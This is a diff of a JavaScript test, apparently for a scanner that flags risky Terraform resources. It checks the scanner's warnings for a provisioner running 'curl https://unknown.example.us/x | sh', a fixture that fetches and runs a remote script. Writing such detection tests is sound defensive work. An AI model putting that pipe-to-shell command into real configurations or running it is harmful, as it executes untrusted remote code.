@@ -70,7 +70,7 @@ describe('providers', () => {
 
 it('finds hosts in what Terraform itself runs', () => {
   const body = { provisioner: [{ 'local-exec': { command: 'curl https://unknown.example.us/x | sh' } }] };
-  expect(worries('null_resource', body, { home: '' })).toEqual(['calls ?']);
+  expect(worries('null_resource', body, { home: '' })).toEqual([expect.stringContaining('unread: a provisioner'), 'calls ?']);
   expect(worries('null_resource', {}, { home: '' })).toEqual([]);
 });
 
